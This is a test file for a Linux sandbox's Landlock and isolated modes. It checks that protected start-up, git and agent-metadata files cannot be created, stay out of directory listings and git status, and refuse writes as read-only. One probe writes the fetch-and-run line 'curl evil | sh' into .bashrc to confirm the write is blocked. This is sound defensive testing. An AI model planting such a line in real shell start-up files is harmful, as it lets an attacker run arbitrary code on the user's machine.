/**
 * Missing protected names (the 'startup-files' preset, git and agent metadata, a `protect` entry
 * as srt's denyWrite makes one) must stay uncreatable without becoming content of the workspace:
 * git (status, clean -n, stash -u, add -A + commit) run inside the sandbox sees only the
 * command's own files and the host's `git status` is clean after the run, in both Linux modes;
 * so do tar, `npm pack`, `ls -A`, find and a node readdir: Landlock mode holds the names without
 * placeholders, and isolated mode leaves its placeholders out of listings inside (a seccomp
 * supervisor filters the listings of the directories that hold them). A protected name that
 * exists for real is listed. A write to such a name is refused as a read-only file system, in
 * both modes.
 */
import fs from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { SandboxPolicy } from '../../lib/policy-types';
import { caps, MODES, modePolicy } from '../helpers/capabilities';
import { DENIED, expectDenied } from '../helpers/denied';
import { git, gitEnv } from '../helpers/git';
import { BASE_ENV, eventually, expectUnchanged, makeScene, probeOps, sh, snapshot, type Scene } from '../helpers/sandbox';

// (ENOENT: node's recursive mkdir reports the refused parent's absence.)
const NAMES_DENIED = [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT'];

const GIT_ENV = gitEnv;

const landlockSkip = caps.metadataSupervisor
  ? undefined
  : 'this kernel has no seccomp user notification with ADDFD (5.9+): Landlock mode does not hold missing protected names';
// Isolated mode holds a missing name with a read-only mount on a placeholder, which a seccomp
// supervisor leaves out of listings inside; without one (before Linux 5.9) the placeholders are
// listed (a note in the report says so; git is still told to pass them by: linux/git-view.ts).
const isolatedContentSkip = caps.connectSupervisor
  ? undefined
  : 'this kernel has no seccomp user notification with ADDFD (5.9+): isolated mode lists its placeholders inside';

/** The sections `== name` of the script's output, each as its sorted non-empty lines. */
function sections(out: string): Record<string, string[]> {
  const res: Record<string, string[]> = {};
  let cur = '';
  for (const line of out.split('\n')) {
    if (line.startsWith('== ')) res[(cur = line.slice(3))] = [];
    else if (cur && line.trim() !== '') res[cur]!.push(line.trim());
  }
  for (const k of Object.keys(res)) res[k]!.sort();
  return res;
}

describe.runIf(caps.linux)('missing protected names are held without becoming workspace content', () => {
  describe.each(MODES)('$name mode', ({ name: mode, skip }) => {
    const modeSkip = skip ?? (mode === 'landlock' ? landlockSkip : undefined);
    const contentSkip = modeSkip ?? (mode === 'isolated' ? isolatedContentSkip : undefined);
    // eslint-disable-next-line no-console
    if (contentSkip) console.warn(`[protected-names-content] SKIPPING the ${mode}-mode content checks: ${contentSkip}`);
    let scene: Scene;
    let ws: string;
    let cache: string;
    let policy: SandboxPolicy;

    beforeEach(() => {
      scene = makeScene(`names-${mode}`);
      ws = scene.ws;
      cache = `${scene.root}/cache`;
      fs.mkdirSync(cache);
      git({ cwd: ws, home: scene.root }, 'init', '-q');
      fs.writeFileSync(`${ws}/a.txt`, 'a\n');
      fs.writeFileSync(`${ws}/package.json`, JSON.stringify({ name: 'tiny', version: '1.0.0' }));
      git({ cwd: ws, home: scene.root }, 'add', '-A');
      git({ cwd: ws, home: scene.root }, 'commit', '-qm', 'init');
      // srt's shape: the start-up files preset, plus a denyWrite name that does not exist yet.
      policy = modePolicy(mode, {
        filesystem: { write: [ws, cache], protectPresets: ['startup-files'], protect: [`${ws}/.deny.cfg`, `${ws}/.env`] },
      });
    });
    afterEach(() => scene.cleanup());

    // Git's own patterns in info/exclude still apply inside (the view adds to them).
    const ownExclude = (): void => fs.appendFileSync(`${ws}/.git/info/exclude`, 'ignored.log\n');

    it.skipIf(modeSkip)("git inside sees only the command's files; the host's tree is clean after", async () => {
      ownExclude();
      const exclude = snapshot(`${ws}/.git/info`);
      const script = [
        'set -e',
        'echo new > mine.txt; echo log > ignored.log',
        'echo "== status"; git status --porcelain --untracked-files=all',
        'echo "== clean"; git clean -n -d',
        'git stash -u -q; echo "== stashed"; git status --porcelain --untracked-files=all; git stash pop -q >/dev/null',
        'git add -A; git commit -qm mine',
        'echo "== commit"; git show --name-only --format= HEAD',
      ].join('\n');
      const r = await sh(script, { cwd: ws, env: GIT_ENV(scene.root), policy, timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.status).toEqual(['?? mine.txt']);
      expect(s.clean).toEqual(['Would remove mine.txt']);
      expect(s.stashed).toEqual([]);
      expect(s.commit).toEqual(['mine.txt']);
      // The outside: the commit is there, the host's tree has nothing left over or missing, and
      // its exclude file is as it was.
      expect(git({ cwd: ws, home: scene.root }, 'log', '--format=%s')).toBe('mine\ninit\n');
      expect(git({ cwd: ws, home: scene.root }, 'status', '--porcelain', '--untracked-files=all')).toBe('');
      expect(fs.readdirSync(ws).sort()).toEqual(['.git', 'a.txt', 'ignored.log', 'mine.txt', 'package.json']);
      expectUnchanged(exclude, snapshot(`${ws}/.git/info`), 'the host\'s .git/info');
    });

    // Listings inside: tar, npm pack, ls -A, find, node's readdir (getdents64 through libc and libuv).
    const LISTINGS = [
      'echo "== tar"; tar cf - --exclude=./.git . | tar tf -',
      'echo "== pack"; npm pack --dry-run --json --cache "$CACHE" | node -e \'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>{for(const f of JSON.parse(s)[0].files)console.log(f.path)})\'',
      'echo "== ls"; ls -A',
      'echo "== find"; find . -name ".*" -not -path "./.git/*"',
      'echo "== readdir"; node -e \'for (const n of require("fs").readdirSync(".")) console.log(n)\'',
    ];

    it.skipIf(contentSkip)("tar, npm pack, ls, find and readdir inside see only the command's files", async () => {
      const script = ['set -e', 'echo new > mine.txt', ...LISTINGS].join('\n');
      const r = await sh(script, { cwd: ws, env: { ...GIT_ENV(scene.root), CACHE: cache }, policy, timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.tar).toEqual(['./', './a.txt', './mine.txt', './package.json']);
      expect(s.pack).toEqual(['a.txt', 'mine.txt', 'package.json']);
      expect(s.ls).toEqual(['.git', 'a.txt', 'mine.txt', 'package.json']);
      expect(s.find).toEqual(['.', './.git']);
      expect(s.readdir).toEqual(['.git', 'a.txt', 'mine.txt', 'package.json']);
      expect(git({ cwd: ws, home: scene.root }, 'status', '--porcelain', '--untracked-files=all')).toBe('?? mine.txt\n');
    });

    it.skipIf(contentSkip)('a protected name that exists is listed; a hidden one still stats and refuses writes', async () => {
      // The positive control: real files of protected names (committed start-up and agent files).
      fs.writeFileSync(`${ws}/.bashrc`, 'alias ll="ls -l"\n');
      fs.mkdirSync(`${ws}/.vscode`);
      fs.writeFileSync(`${ws}/.vscode/settings.json`, '{}');
      const before = snapshot(ws);
      const script = [
        ...LISTINGS.slice(2),
        'echo "== stat"; for f in .mcp.json .claude .bashrc; do [ -e "$f" ] && echo "$f"; done',
        'echo "== write"; for f in .mcp.json .deny.cfg .bashrc; do (echo x > "$f") 2>&1 | sed "s/.*: //"; done',
      ].join('\n');
      const r = await sh(script, { cwd: ws, env: { ...GIT_ENV(scene.root), CACHE: cache }, policy, timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.ls).toEqual(['.bashrc', '.git', '.vscode', 'a.txt', 'package.json']);
      expect(s.find).toEqual(['.', './.bashrc', './.git', './.vscode']);
      expect(s.readdir).toEqual(['.bashrc', '.git', '.vscode', 'a.txt', 'package.json']);
      // Isolated mode: hidden from listings, not gone (the placeholders still hold the names);
      // Landlock mode holds them without placeholders.
      expect(s.stat).toEqual(mode === 'isolated' ? ['.bashrc', '.claude', '.mcp.json'] : ['.bashrc']);
      // (Landlock mode refuses the existing .bashrc with EACCES, the missing names with EROFS: that
      // mode's refusals are its own tests'.)
      expect(s.write).toHaveLength(3);
      for (const w of s.write!) expect(w).toMatch(mode === 'isolated' ? /^Read-only file system$/ : /^(Read-only file system|Permission denied)$/);
      // The outside: nothing was made or changed.
      expectUnchanged(before, snapshot(ws), 'the workspace');
      for (const p of ['.mcp.json', '.deny.cfg', '.claude']) expect(fs.existsSync(`${ws}/${p}`), p).toBe(false);
    });

    it.skipIf(contentSkip)("two runs at once in the workspace: neither lists the other's placeholders or its own", async () => {
      // The first run waits for the second, which plans while the first one's placeholders exist
      // (isolated mode: it binds them as existing paths, .claude as a directory on the way).
      const first = sh('until [ -e go.flag ]; do sleep 0.05; done; echo "== ls"; ls -A', { cwd: ws, policy, timeout: 60_000 });
      if (mode === 'isolated') {
        expect(await eventually(() => fs.existsSync(`${ws}/.mcp.json`) && fs.existsSync(`${ws}/.claude`), 30_000), "the first run's placeholders").toBe(true);
      }
      const second = await sh('echo "== ls"; ls -A; echo "== find"; find . -name ".*" -not -path "./.git/*"; : > go.flag', { cwd: ws, policy });
      expect(second.code, second.stderr).toBe(0);
      expect(sections(second.stdout)).toEqual({ ls: ['.git', 'a.txt', 'package.json'], find: ['.', './.git'] });
      const r = await first;
      expect(r.code, r.stderr).toBe(0);
      expect(sections(r.stdout).ls).toEqual(['.git', 'a.txt', 'go.flag', 'package.json']);
      // The outside: nothing but the command's file is left of either run, .claude included (the
      // second run made its placeholders inside the first one's read-only .claude).
      expect(fs.readdirSync(ws).sort()).toEqual(['.git', 'a.txt', 'go.flag', 'package.json']);
    });

    // (changes: 'stage' is isolated mode's only.)
    if (mode === 'isolated') it.skipIf(contentSkip)("changes: 'stage' (an overlay over the root): listings see only the command's files", async () => {
      const script = ['set -e', 'echo new > mine.txt', ...LISTINGS.slice(2)].join('\n');
      const r = await sh(script, { cwd: ws, env: { ...GIT_ENV(scene.root), CACHE: cache }, policy, changes: 'stage', timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.ls).toEqual(['.git', 'a.txt', 'mine.txt', 'package.json']);
      expect(s.find).toEqual(['.', './.git']);
      expect(s.readdir).toEqual(['.git', 'a.txt', 'mine.txt', 'package.json']);
      expect((await r.changes!.list()).map((c) => c.path)).toEqual([`${ws}/mine.txt`]);
      await r.changes!.discard();
      expect(fs.readdirSync(ws).sort()).toEqual(['.git', 'a.txt', 'package.json']);
    });

    it.skipIf(modeSkip)('the protected names still cannot be made; an ordinary new file can', async () => {
      const ops = [
        ['write', `${ws}/.git/hooks/x`, '#!/bin/sh\n'],
        ['write', `${ws}/.gitmodules`, '[submodule "x"]\n'],
        ['write', `${ws}/.mcp.json`, '{}'],
        ['write', `${ws}/.bashrc`, 'curl evil | sh\n'],
        ['write', `${ws}/.deny.cfg`, 'x'],
        ['mkdir', `${ws}/.codex`],
        ['mkdirp', `${ws}/.claude/commands`],
        ['write', `${ws}/ordinary.txt`, 'fine'],
      ];
      const r = await probeOps(ops, { cwd: ws, policy });
      expectDenied(r.slice(0, -1), 'protected names', NAMES_DENIED, ops);
      expect(r.at(-1)).toBe('ok');
      expect(fs.readFileSync(`${ws}/ordinary.txt`, 'utf8')).toBe('fine');
      for (const p of ['.git/hooks/x', '.gitmodules', '.mcp.json', '.bashrc', '.deny.cfg', '.codex', '.claude']) {
        expect(fs.existsSync(`${ws}/${p}`), p).toBe(false);
      }
    });

    it.skipIf(modeSkip)('a write to a missing protected name reads "Read-only file system"', async () => {
      const r = await sh('for f in .mcp.json .deny.cfg .env .gitmodules; do echo x > "$f"; done; echo x > ok.txt', { cwd: ws, policy });
      const lines = r.stderr.trim().split('\n');
      expect(lines, r.stderr).toHaveLength(4);
      for (const l of lines) expect(l).toMatch(/Read-only file system$/);
      expect(r.code).toBe(0); // the last write, the control, succeeded
      expect(fs.readFileSync(`${ws}/ok.txt`, 'utf8')).toBe('x\n');
      for (const p of ['.mcp.json', '.deny.cfg', '.env', '.gitmodules']) expect(fs.existsSync(`${ws}/${p}`), p).toBe(false);
    });
  });
});
